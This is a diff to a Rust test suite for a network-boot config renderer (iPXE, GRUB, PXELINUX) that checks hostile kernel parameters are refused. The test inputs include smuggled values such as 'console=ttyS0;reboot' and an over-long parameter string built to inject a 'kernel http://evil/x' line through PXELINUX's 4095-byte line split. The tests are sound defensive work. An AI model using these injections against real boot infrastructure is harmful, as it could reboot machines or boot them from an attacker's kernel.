@@ -275,7 +275,6 @@ fn hostile_node_fields_cannot_add_lines_or_commands() {
 
 #[test]
 fn unsafe_parameters_and_urls_are_refused_with_the_field_named() {
-    let r = renderer();
     for (params, bad) in [
         ("console=ttyS0;reboot", ";"),
         ("x=${net0/mac}", "$"),
@@ -297,7 +296,9 @@ fn unsafe_parameters_and_urls_are_refused_with_the_field_named() {
         let m = s
             .by_addr(&AnyAddr::parse("52:54:00:00:00:01").expect("mac"))
             .expect("node");
-        let err = r
+        // A renderer per store: each store numbers its revisions from the start, and
+        // failures are cached per node revision.
+        let err = renderer()
             .render(Some(&m), Format::Ipxe, None, &server())
             .unwrap_err();
         let msg = err.to_string();
@@ -530,4 +531,79 @@ fn renders_say_whether_they_were_cache_misses() {
         .render(None, Format::IpxeEntry, None, &server())
         .expect("renders");
     assert!(first.fresh && !again.fresh);
+}
+
+/// Issue 20 item 6: `kernel_append_params: "text console=ttyS0 # x"` rendered
+/// `kernel … console=ttyS0 # ipa-api-url=… BOOTIF=… initrd=initrd || goto retry`, and iPXE
+/// drops everything after a word starting with `#`. Each format is checked against its own
+/// grammar: iPXE and GRUB refuse the word, naming the field; PXELINUX, whose `append` takes
+/// the rest of the line as it is, renders it.
+#[test]
+fn a_word_starting_with_hash_in_kernel_parameters_is_refused_where_it_is_a_comment() {
+    let json = r#"{"uuid": "1be26c0b-03f2-4d2e-ae87-c02d7f33c123", "provision_state": "deploying",
+        "driver_info": {"deploy_kernel": "http://img/k", "deploy_ramdisk": "http://img/r",
+                        "kernel_append_params": "text console=ttyS0 # x"},
+        "ports": [{"address": "52:54:00:00:00:01"}]}"#;
+    let store = Store::new(IndexConfig::default());
+    store.apply(vec![(
+        SourceId::File("a.json".into()),
+        Update::Replace(StateDoc::from_slice(json.as_bytes()).expect("parses")),
+    )]);
+    let s = store.current();
+    let m = s
+        .by_addr(&AnyAddr::parse("52:54:00:00:00:01").expect("mac"))
+        .expect("node");
+    let r = renderer();
+    for f in [Format::Ipxe, Format::Grub] {
+        let err = r.render(Some(&m), f, None, &server()).unwrap_err();
+        let msg = err.to_string();
+        assert!(
+            msg.starts_with("kernel parameter = \"#\"") && msg.contains("comment"),
+            "{f}: {msg}"
+        );
+    }
+    let pxe = r
+        .render(Some(&m), Format::Pxelinux, None, &server())
+        .expect("PXELINUX has no comments inside a line");
+    assert!(
+        pxe.body
+            .contains("console=ttyS0 # x ipa-debug=1 ipa-api-url="),
+        "{}",
+        pxe.body
+    );
+}
+
+/// PXELINUX reads a config line in 4095-byte pieces and parses the next piece as a line of
+/// its own, so parameters long enough together could start a `kernel http://evil/x` line;
+/// and any boot loader cuts a kernel command line past 2048 bytes, losing BOOTIF and the
+/// callback URL at its end. Parameters too long together are refused in every format.
+#[test]
+fn kernel_parameters_too_long_together_are_refused_in_every_format() {
+    let append = format!("{} kernel http://evil/x", "console=ttyS0 ".repeat(200));
+    let json = serde_json::json!({
+        "uuid": "1be26c0b-03f2-4d2e-ae87-c02d7f33c123", "provision_state": "deploying",
+        "driver_info": {"deploy_kernel": "http://img/k", "deploy_ramdisk": "http://img/r",
+                        "kernel_append_params": append},
+        "ports": [{"address": "52:54:00:00:00:01"}]
+    })
+    .to_string();
+    let store = Store::new(IndexConfig::default());
+    store.apply(vec![(
+        SourceId::File("a.json".into()),
+        Update::Replace(StateDoc::from_slice(json.as_bytes()).expect("parses")),
+    )]);
+    let s = store.current();
+    let m = s
+        .by_addr(&AnyAddr::parse("52:54:00:00:00:01").expect("mac"))
+        .expect("node");
+    let r = renderer();
+    for f in Format::ALL {
+        match r.render(Some(&m), f, None, &server()) {
+            Err(e) => assert!(
+                e.to_string().starts_with("kernel parameters = "),
+                "{f}: {e}"
+            ),
+            Ok(out) => panic!("{f} rendered:\n{}", out.body),
+        }
+    }
 }
